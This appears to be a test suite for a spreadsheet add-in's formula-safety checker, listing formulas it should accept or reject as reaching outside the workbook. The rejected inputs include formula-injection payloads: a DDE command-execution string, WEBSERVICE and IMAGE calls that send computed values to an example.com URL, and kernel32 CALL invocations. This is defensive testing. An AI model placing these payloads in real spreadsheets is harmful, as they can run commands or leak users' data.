import { isPlainCalculation, onlyCalculates } from "../../src/host/formula-safety";

test.each([
  '=RENT.PRICE(A2,"studio")',
  "=12*RENT.OBSERVED('Rent roll'!$A$2:$B$9,1.5E3)",
  '=IFERROR(_xldudf_RENT_COMPS(A2#,4)&"=WEBSERVICE(""x"")",#N/A)',
  "=_xlfn._xlws.FILTER(RENT.COMPS(A2,4),{TRUE,FALSE})",
  "=-rent.price(Deal!A:A)%",
  "=RENT.PROPERTY(#REF!,1)",
])("%s calculates alone", (formula) => {
  expect(isPlainCalculation(formula)).toBe(true);
  expect(onlyCalculates(formula)).toBe(true);
});

test.each([
  '=WEBSERVICE("https://example.com/?"&RENT.PRICE(A2))',
  '=RENT.PRICE(_xlfn.WEBSERVICE("https://example.com"))',
  '=HYPERLINK("https://example.com",RENT.PRICE(A2))',
  "=RENT.PRICE(A2)+cmd|'/c calc'!A0",
  "=RENT.PRICE('[Book2.xlsx]Sheet1'!A2)",
  "=RENT.PRICE([Book2.xlsx]Sheet1!A2)",
  "=RENT.PRICE('C:\\files\\[Book2.xlsx]Sheet1'!A2)",
  "=RENT.PRICE(Book2.xlsx!Rents)",
  "=RENT.PRICE('\\\\server\\share\\Book2.xlsx'!A2)",
  "=RENT.PRICE('C:\\files\\Book2.xlsx'!A:A)",
  "=RENT.PRICE('https://example.com/Book2.xlsx'!A2)",
  '=RENT.PRICE(CALL("kernel32","Beep","JJJ",A2,A3))',
  "=RENT.PRICE(REGISTER.ID(A2,A3))",
  '=IMAGE("https://example.com/"&RENT.PRICE(A2))',
])("%s reaches outside", (formula) => {
  expect(isPlainCalculation(formula)).toBe(false);
  for (const start of ["", " ", "+", "-"]) expect(onlyCalculates(start + formula)).toBe(false);
});

test.each([
  ["=SUM(A1:A9)", true],
  ["=RENT.PRICE(Table1[address])", true],
  ["=Rents[@rent]/12+SUM(Rents[[#All],[a 'b]:[c]])", true],
  ["=[@rent]*2", true],
  ["+A1-B2", true],
  ["=RENT.PRICE(Subject)", false],
  ["=[Book2.xlsx]Sheet1!A2", false],
  ["=SUM([Book2.xlsx]Sheet1!Table1[rent])", false],
  ["=Book2.xlsx!Table1[rent]", false],
  ["='[Book2.xlsx]Sheet1'!A2", false],
  ["=[a]WEBSERVICE(A1)", false],
  [`=Rents[a']&"b]&WEBSERVICE(Rents[c']&"d])`, false],
  [`=Rents[a"b]&WEBSERVICE(Rents[c"d])`, false],
  [`='a"b'!A1&WEBSERVICE('c"d'!A1)`, false],
  [`='a"b'!A1&"[c]"&Rents[d"e]`, true],
  ['=Rents[a]&WEBSERVICE("https://example.com")', false],
  ["@SUM(A1,EXEC(A2))", false],
  ["=RENT.PRICE(INDIRECT(A2))", false],
  ["=LAMBDA(x,RENT.PRICE(x))(A2)", false],
  ["=RENT.PRICE(OTHER.ADDIN(A2))", false],
  ["=" + "A1+".repeat(3_000) + "1", false],
])("%s is not written as one of ours without a question; merely calculating: %p", (formula, merely) => {
  expect(isPlainCalculation(formula)).toBe(false);
  expect(onlyCalculates(formula)).toBe(merely);
});

test.each([1, true, null, "WEBSERVICE(A1)", "'=WEBSERVICE(A1)", "a|b", 'RENT.PRICE("a")'])(
  "%s is no formula",
  (value) => expect(onlyCalculates(value)).toBe(true),
);

test("a formula that is longer than Excel's are is not looked at", () => {
  const sum = (terms: number): string => `=RENT.PRICE(A2)${"+1".repeat(terms)}`;
  expect(isPlainCalculation(sum(4_000))).toBe(true);
  for (const part of ["+1", "(", "'", '"', "[", "#A", " "])
    for (const isSafe of [isPlainCalculation, onlyCalculates])
      expect(isSafe(`=RENT.PRICE(A2)${part.repeat(1_000_000)}`)).toBe(false);
});
